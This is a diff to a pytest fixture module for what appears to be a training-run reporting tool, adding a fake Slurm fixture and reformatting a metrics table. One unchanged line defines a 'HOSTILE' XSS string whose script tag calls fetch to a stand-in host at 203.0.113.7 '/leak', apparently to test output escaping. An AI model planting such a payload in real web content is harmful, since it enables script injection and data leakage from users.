@@ -12,6 +12,8 @@ from typing import Any
 
 import pytest
 
+from tests.reporting.fake_slurm import FakeSlurm
+
 START = 1_795_395_600.0
 HOSTILE = '<script>document.title = "owned"; fetch("http://203.0.113.7/leak")</script>'
 WRITTEN = [
@@ -117,15 +119,9 @@ def answers(model: str, chance: random.Random) -> list[dict[str, Any]]:
 
 
 METRICS = {
-    "reward": True,
-    "sentiment": True,
-    "relevance": True,
-    "stop_rate": True,
-    "tokens": None,
-    "repetition": False,
-    "kl": None,
-    "heldout_nll": False,
-}
+    "reward": True, "sentiment": True, "relevance": True, "stop_rate": True, "tokens": None, "repetition": False,
+    "kl": None, "heldout_nll": False,
+}  # fmt: skip
 
 
 def column(row: dict[str, Any], metric: str) -> float:
@@ -392,3 +388,10 @@ def make_run(tmp_path: Path) -> Callable[..., tuple[Path, Path]]:
         return build(tmp_path / "outputs", names, states)
 
     return make
+
+
+@pytest.fixture
+def slurm(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FakeSlurm:
+    (tmp_path / "bin").mkdir()
+    monkeypatch.setenv("PATH", f"{tmp_path}/bin:/usr/bin:/bin")
+    return FakeSlurm(tmp_path / "bin")
